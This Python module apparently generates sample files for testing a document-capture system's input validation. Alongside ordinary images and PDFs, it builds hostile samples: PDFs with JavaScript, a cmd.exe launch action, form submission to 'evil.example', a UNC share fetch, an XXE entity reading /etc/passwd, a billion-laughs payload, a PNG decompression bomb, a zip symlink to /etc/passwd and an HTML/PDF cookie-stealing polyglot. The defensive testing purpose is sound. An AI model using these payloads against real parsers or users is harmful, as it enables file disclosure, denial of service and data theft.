"""Sample files built in code, named by purpose: nothing binary lives in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image, ImageDraw

A4_200DPI = (1654, 2339)


def page_image(text: str = "申请表", size: tuple[int, int] = A4_200DPI) -> Image.Image:
    img = Image.new("L", size, 255)
    draw = ImageDraw.Draw(img)
    for y in range(200, size[1] - 200, 60):
        draw.line((150, y, size[0] - 150, y), fill=80, width=3)
    draw.rectangle((150, 100, 600, 160), fill=0)
    draw.text((160, 110), text.encode("ascii", "replace").decode(), fill=255)
    return img


def jpeg(dpi: int = 200, size: tuple[int, int] = A4_200DPI, quality: int = 75, text: str = "page") -> bytes:
    buf = io.BytesIO()
    page_image(text, size).convert("RGB").save(buf, "JPEG", dpi=(dpi, dpi), quality=quality)
    return buf.getvalue()


def png(dpi: int = 200, size: tuple[int, int] = A4_200DPI) -> bytes:
    buf = io.BytesIO()
    page_image("png", size).save(buf, "PNG", dpi=(dpi, dpi))
    return buf.getvalue()


def tiff(pages: int = 3, dpi: int = 200) -> bytes:
    frames = [page_image(f"p{i}") for i in range(pages)]
    buf = io.BytesIO()
    frames[0].save(buf, "TIFF", save_all=True, append_images=frames[1:], dpi=(dpi, dpi), compression="tiff_deflate")
    return buf.getvalue()


def pdf(pages: int = 2) -> bytes:
    doc = pikepdf.new()
    for _ in range(pages):
        doc.add_blank_page(page_size=(595, 842))
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def encrypted_pdf() -> bytes:
    doc = pikepdf.open(io.BytesIO(pdf(1)))
    buf = io.BytesIO()
    doc.save(buf, encryption=pikepdf.Encryption(owner="o", user="u"))
    return buf.getvalue()


def javascript_pdf() -> bytes:
    doc = pikepdf.open(io.BytesIO(pdf(1)))
    js = doc.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')")))
    doc.Root.OpenAction = js
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def embedded_file_pdf() -> bytes:
    doc = pikepdf.open(io.BytesIO(pdf(1)))
    doc.attachments["payload.exe"] = pikepdf.AttachedFileSpec(doc, b"MZ\x90\x00", mime_type="application/octet-stream")
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def png_bomb(width: int = 30000, height: int = 30000) -> bytes:
    """A tiny file that claims 30000×30000 pixels (a decompression bomb)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (width // 8 + 2) * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


OFD_NS = 'xmlns:ofd="http://www.ofdspec.org/2016"'


def ofd(pages: int = 2, extra: dict[str, str | bytes] | None = None, ofd_xml: str | None = None) -> bytes:
    """An OFD container; ``extra`` adds (or replaces) entries by name, e.g. a hostile one."""
    entries: dict[str, str | bytes] = {
        "OFD.xml": ofd_xml or f'<?xml version="1.0"?><ofd:OFD {OFD_NS}/>',
        **{f"Doc_0/Pages/Page_{i}/Content.xml": f"<ofd:Page {OFD_NS}/>" for i in range(pages)},
        **(extra or {}),
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return buf.getvalue()


def ofd_with_symlink() -> bytes:
    """An OFD whose resource entry is a symbolic link to /etc/passwd."""
    buf = io.BytesIO(ofd())
    with zipfile.ZipFile(buf, "a") as z:
        info = zipfile.ZipInfo("Doc_0/Res/image.png")
        info.create_system = 3
        info.external_attr = (0o120777 << 16)
        z.writestr(info, "/etc/passwd")
    return buf.getvalue()


def ofd_encrypted() -> bytes:
    """An OFD whose Content.xml entry is marked encrypted (general-purpose flag bit 0)."""
    data = bytearray(ofd(1))
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):  # local header and central directory entries
        offset = sig_offset = 0
        while (offset := data.find(sig, sig_offset)) >= 0:
            flag_at = offset + (6 if sig == b"PK\x03\x04" else 8)
            data[flag_at] |= 0x01
            sig_offset = offset + 4
    return bytes(data)


XXE = ('<?xml version="1.0"?><!DOCTYPE ofd:OFD [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
       f'<ofd:OFD {OFD_NS}>&x;</ofd:OFD>')
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
          + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
          + f']><ofd:OFD {OFD_NS}>&i;</ofd:OFD>')


def pdf_with_action(kind: str) -> bytes:
    """A one-page PDF carrying one family of active content: launch, submit, gotor, xfa, richmedia, 3d."""
    doc = pikepdf.open(io.BytesIO(pdf(1)))
    name = pikepdf.Name
    page = doc.pages[0]

    def annot(**kw: object) -> None:
        page.obj.Annots = doc.make_indirect(pikepdf.Array([doc.make_indirect(pikepdf.Dictionary(
            Type=name.Annot, Rect=[0, 0, 100, 100], **kw))]))

    if kind == "launch":
        doc.Root.OpenAction = pikepdf.Dictionary(S=name.Launch, F=pikepdf.String("cmd.exe"))
    elif kind == "submit":
        annot(Subtype=name.Link, A=pikepdf.Dictionary(S=name.SubmitForm, F=pikepdf.String("http://evil.example/")))
    elif kind == "gotor":
        page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=name.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf"),
                                                             D=pikepdf.Array([0, name.Fit])))
    elif kind == "xfa":
        doc.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=doc.make_stream(b"<xdp:xdp/>"))
    elif kind == "richmedia":
        annot(Subtype=name.RichMedia, RichMediaContent=pikepdf.Dictionary())
    elif kind == "3d":
        annot(Subtype=pikepdf.Name("/3D"), **{"3DD": doc.make_stream(b"U3D", Type=pikepdf.Name("/3D"),
                                                                      Subtype=name.U3D)})
    elif kind in ("uri", "file-uri"):  # an ordinary web link is allowed; a file: link is not
        target = "https://www.gov.cn/" if kind == "uri" else "file:///C:/Windows/System32/calc.exe"
        annot(Subtype=name.Link, A=pikepdf.Dictionary(S=name.URI, URI=pikepdf.String(target)), F=4, Border=[0, 0, 0])
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def pdf_with_many_pages(pages: int) -> bytes:
    """Thousands of empty pages in a small file (the page tree built directly: appending one by one is slow)."""
    doc = pikepdf.new()
    kids = [doc.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842],
                                                 Parent=doc.Root.Pages)) for _ in range(pages)]
    doc.Root.Pages.Kids = pikepdf.Array(kids)
    doc.Root.Pages.Count = pages
    buf = io.BytesIO()
    doc.save(buf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return buf.getvalue()


def broken_xref_pdf() -> bytes:
    """A PDF whose cross-reference offsets are wrong: qpdf repairs it silently, other readers may not."""
    data = pdf(2)
    start = data.rindex(b"startxref") + len(b"startxref\n")
    end = data.index(b"\n", start)
    return data[:start] + str(int(data[start:end]) + 7).encode() + data[end:]


def html_polyglot_pdf() -> bytes:
    """An HTML page with a script, followed by a PDF: a browser runs one, a PDF reader shows the other."""
    return b"<html><script>alert(document.cookie)</script>" + pdf(1)


def jpeg_with_zip() -> bytes:
    """A JPEG with a ZIP archive appended after its EOI marker."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload.txt", "hidden")
    return jpeg() + buf.getvalue()


def png_with_trailer() -> bytes:
    return png() + b"<script>alert(1)</script>"


def jpeg_without_eoi() -> bytes:
    """A JPEG missing its last two bytes, the EOI marker."""
    return jpeg()[:-2]


def png_without_iend() -> bytes:
    """A PNG whose last chunk is missing: Pillow decodes it without complaint."""
    return png()[:-12]


def tiff_pages(pages: int) -> bytes:
    """A multi-page TIFF written directly (Pillow takes minutes for thousands of frames): tiny 8×8 bilevel
    pages at 200 dpi, every IFD pointing at one shared strip."""
    entries = [(256, 3, 8), (257, 3, 8), (258, 3, 1), (259, 3, 1), (262, 3, 1), (273, 4, 8), (278, 3, 8),
               (279, 4, 8), (282, 5, 16), (283, 5, 16), (296, 3, 2)]  # tag, type, value (or offset)
    ifd_size = 2 + 12 * len(entries) + 4
    out = bytearray(b"II*\x00" + struct.pack("<I", 24) + b"\xff" * 8 + struct.pack("<II", 200, 1))
    for i in range(pages):
        following = 24 + (i + 1) * ifd_size if i + 1 < pages else 0
        out += struct.pack("<H", len(entries))
        for tag, kind, value in entries:
            out += struct.pack("<HHI", tag, kind, 1) + (struct.pack("<HH", value, 0) if kind == 3
                                                         else struct.pack("<I", value))
        out += struct.pack("<I", following)
    return bytes(out)


def apng(frames: int) -> bytes:
    images = [Image.new("L", (8, 8), i % 256) for i in range(frames)]
    buf = io.BytesIO()
    images[0].save(buf, "PNG", save_all=True, append_images=images[1:], dpi=(200, 200))
    return buf.getvalue()


def pdf_with_page_action() -> bytes:
    """A PDF whose page has an additional action (/AA, here: print on open): not active content, but
    PDF/A-2b forbids it (ISO 19005-2 6.6.2), so its rendition fails."""
    doc = pikepdf.open(io.BytesIO(pdf(1)))
    doc.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.Print))
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def cover_image(serial: str, rotate: float = 0, dpi: int = 200) -> Image.Image:
    """A printed-and-scanned cover sheet: rendered at ``dpi``, optionally askew."""
    import pypdfium2 as pdfium

    from archive.capture.cover_sheet import ChecklistLine, render

    pdf_bytes = render(serial, "购买自住住房提取", "张*", "BR01", [ChecklistLine("申请表", True, False)], "中心")
    doc = pdfium.PdfDocument(pdf_bytes)
    image = doc[0].render(scale=dpi / 72, grayscale=True).to_pil()
    doc.close()
    return image.rotate(rotate, expand=True, fillcolor=255) if rotate else image


def stack_pdf(pages: list[Image.Image], dpi: int = 200) -> bytes:
    """A scanner's multi-page PDF: one JPEG per page."""
    import img2pdf

    frames = []
    for page in pages:
        buf = io.BytesIO()
        page.convert("L").save(buf, "JPEG", quality=70, dpi=(dpi, dpi))
        frames.append(buf.getvalue())
    return img2pdf.convert(frames)


def stack_tiff(pages: list[Image.Image], dpi: int = 200) -> bytes:
    frames = [p.convert("L") for p in pages]
    buf = io.BytesIO()
    frames[0].save(buf, "TIFF", save_all=True, append_images=frames[1:], dpi=(dpi, dpi), compression="tiff_deflate")
    return buf.getvalue()


def pdf_pages(pdf_bytes: bytes, dpi: int = 200) -> list[Image.Image]:
    """Each page of a generated PDF (cover sheet, separator sheets) as printed and scanned at ``dpi``."""
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument(pdf_bytes)
    images = [doc[i].render(scale=dpi / 72, grayscale=True).to_pil() for i in range(len(doc))]
    doc.close()
    return images
